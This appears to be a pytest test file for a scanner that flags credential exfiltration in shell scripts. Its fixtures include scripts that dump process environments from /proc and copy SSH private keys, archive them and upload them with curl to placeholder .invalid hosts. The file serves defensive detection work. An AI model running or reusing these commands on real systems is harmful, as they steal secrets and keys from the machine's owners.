"""``dirname PATH`` prints the folder PATH is in: an archive made inside that folder (``tar -C
"$(dirname "$out")" -czf - diag``) holds what was written under PATH, so a secret or the environment
written there and the archive sent is still followed. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

SCRIPTS = {
    "another process's environment, archived from the parent folder and posted": (
        "#!/usr/bin/env bash\n"
        'bundle=$(mktemp -d)/report; mkdir -p "$bundle"\n'
        "for p in $(pidof nginx) $$; do\n"
        "  tr '\\0' '\\n' < /proc/$p/environ > \"$bundle/settings-$p.txt\"\n"
        "done\n"
        "sink=https://tickets.larchmere.invalid/upload\n"
        'id=$(tar -C "$(dirname "$bundle")" -czf - report | curl -fsS --data-binary @- "$sink")\n'
    ),
    "ssh keys copied into a fixed folder, zipped from its parent after cd": (
        "#!/bin/sh\n"
        "stage=/var/tmp/collect/keys\n"
        'mkdir -p "$stage" && cp ~/.ssh/id_* "$stage/"\n'
        'parent=$(dirname "$stage")\n'
        'tar -czf /var/tmp/up.tgz -C "$parent" keys\n'
        "curl -s -T /var/tmp/up.tgz https://drop.larchmere.invalid/in\n"
    ),
}


@pytest.mark.parametrize("script", sorted(SCRIPTS))
def test_an_archive_made_in_the_parent_folder_carries_what_was_written(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/collect.sh": SCRIPTS[script]})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors), errors


def test_plain_logs_archived_from_the_parent_folder_are_quiet(tmp_path: Path) -> None:
    script = (
        "#!/usr/bin/env bash\n"
        'out=$(mktemp -d)/logs; mkdir -p "$out"\n'
        'cp /var/log/app/*.log "$out/"\n'
        'uname -a > "$out/system.txt"\n'
        'tar -C "$(dirname "$out")" -czf - logs | curl -fsS --data-binary @- https://support.larchmere.invalid/t\n'
    )
    assert not scan_errors(tmp_path, {"scripts/collect.sh": script})
